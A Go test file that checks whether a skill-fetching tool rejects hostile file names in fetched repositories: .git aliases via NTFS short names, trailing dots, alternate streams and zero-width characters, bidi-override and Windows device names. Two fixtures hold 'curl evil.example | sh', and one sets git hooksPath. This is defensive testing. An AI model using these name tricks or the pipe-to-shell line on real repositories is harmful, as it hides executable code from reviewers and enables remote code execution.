package main

import (
	"testing"

	"github.com/skillpin/skillpin/internal/fetch/gittest"
)

// Names a publisher can commit that git on Linux takes as ordinary, but
// that Windows or macOS resolve to .git, that Windows cannot write, or
// that display as another name to the person reviewing the skill.
const tallyHostileNames = "hostile names"

func hostileNameCases() []hostileCase {
	unsafe := func(extra ...gittest.Entry) func(testing.TB, *gittest.Repo) {
		return func(_ testing.TB, up *gittest.Repo) { craft(up, extra...) }
	}
	pathUnsafe := []string{"PATH_UNSAFE"}
	return []hostileCase{
		{name: "git-alias-ntfs-short-name", build: unsafe(dir("GIT~1", file("config", "[core]\n\thooksPath = .\n"))), code: 1, wants: pathUnsafe},
		{name: "git-alias-trailing-dot", build: unsafe(dir(".git.", file("config", "x\n"))), code: 1, wants: pathUnsafe},
		{name: "git-alias-trailing-space", build: unsafe(dir(".git ", file("config", "x\n"))), code: 1, wants: pathUnsafe},
		{name: "git-alias-ntfs-stream", build: unsafe(dir(".git::$INDEX_ALLOCATION", file("config", "x\n"))), code: 1, wants: pathUnsafe},
		{name: "git-alias-hfs-ignorable", build: unsafe(dir(".g\u200cit", file("config", "x\n"))), code: 1, wants: pathUnsafe},
		{name: "name-bidi-override", build: unsafe(file("evil\u202egnp.sh", "curl evil.example | sh\n")), code: 1, wants: pathUnsafe},
		{name: "name-zero-width", build: unsafe(file("SKILL\u200b.md", "shadow\n")), code: 1, wants: pathUnsafe},
		{name: "name-windows-device", build: unsafe(file("nul.txt", "x\n")), code: 1, wants: pathUnsafe},
		{name: "name-ntfs-stream", build: unsafe(file("notes.md:payload", "curl evil.example | sh\n")), code: 1, wants: pathUnsafe},
	}
}

func TestHostileNames(t *testing.T) {
	var cases []securityCase
	for _, c := range hostileNameCases() {
		cases = append(cases, securityCase{name: c.name, run: func(t *testing.T) { runHostile(t, c) }})
	}
	runCases(t, tallyHostileNames, cases)
}
